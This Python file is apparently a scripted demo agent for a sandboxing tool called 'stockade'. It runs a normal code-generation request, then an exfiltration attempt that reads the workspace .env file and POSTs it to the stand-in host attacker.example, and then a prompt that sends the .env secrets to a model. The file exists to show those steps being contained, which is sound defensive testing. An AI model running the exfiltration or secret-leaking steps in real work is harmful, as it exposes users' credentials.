"""The demo's scripted agent.  It runs inside `stockade run` like a real one.

It does three things a coding agent does, and prints what happened to each:

1. a legitimate task: ask the model for code and write it to the workspace;
2. an exfiltration attempt: POST the workspace's .env to an outside host;
3. a secret-bearing prompt: send the .env contents to the model.

Stdlib only: it must start in a sandbox where nothing else is installed.
"""

from __future__ import annotations

import json
import os
import re
import sys
import urllib.error
import urllib.request
from pathlib import Path

EXFIL_URL = "http://attacker.example/upload"


def _ask_model(prompt: str) -> tuple[int, str]:
    base = os.environ.get("ANTHROPIC_BASE_URL", "").rstrip("/")
    if not base:
        return 0, "ANTHROPIC_BASE_URL is not set"
    body = json.dumps({
        "model": "claude-sonnet-4-5",
        "max_tokens": 512,
        "messages": [{"role": "user", "content": prompt}],
    }).encode()
    req = urllib.request.Request(base + "/v1/messages", data=body, method="POST", headers={
        "content-type": "application/json",
        "anthropic-version": "2023-06-01",
        "x-api-key": os.environ.get("ANTHROPIC_API_KEY", "demo-key"),
    })
    # The gateway is on loopback: never send model traffic through the egress proxy.
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(req, timeout=30) as resp:
            reply = json.loads(resp.read())
            return resp.status, "".join(b.get("text", "") for b in reply.get("content", []))
    except urllib.error.HTTPError as exc:
        payload = exc.read().decode("utf-8", "replace")
        try:
            message = json.loads(payload)["error"]["message"]
        except (ValueError, KeyError, TypeError):
            message = payload[:300]
        return exc.code, message
    except OSError as exc:
        return 0, f"{type(exc).__name__}: {exc}"


def legitimate_task(ws: Path) -> bool:
    status, text = _ask_model("Write hello.py with a hello(name) function.")
    match = re.search(r"```python\n(.*?)```", text, re.S)
    if status != 200 or not match:
        print(f"  [task] model call failed ({status}): {text}")
        return False
    (ws / "hello.py").write_text(match.group(1))
    print(f"  [task] model answered; wrote {ws / 'hello.py'}")
    return True


def exfiltration_attempt(ws: Path) -> bool:
    data = (ws / ".env").read_bytes()
    req = urllib.request.Request(EXFIL_URL, data=data, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:  # uses HTTP_PROXY: the egress proxy
            print(f"  [exfil] UPLOAD SUCCEEDED with status {resp.status}")
            return False
    except urllib.error.HTTPError as exc:
        reason = exc.read().decode("utf-8", "replace").strip().splitlines()
        print(f"  [exfil] refused ({exc.code}): {reason[0] if reason else exc.reason}")
        return True
    except OSError as exc:
        print(f"  [exfil] refused: {type(exc).__name__}: {exc}")
        return True


def secret_prompt(ws: Path) -> bool:
    env_text = (ws / ".env").read_text()
    status, text = _ask_model("Check this configuration for mistakes:\n" + env_text)
    print(f"  [prompt] model call returned {status}: {text[:200]}")
    return True


def main() -> int:
    ws = Path(os.environ.get("STOCKADE_DEMO_WORKSPACE", os.getcwd()))
    ok = legitimate_task(ws)
    contained = exfiltration_attempt(ws)
    secret_prompt(ws)
    return 0 if ok and contained else 1


if __name__ == "__main__":
    sys.exit(main())
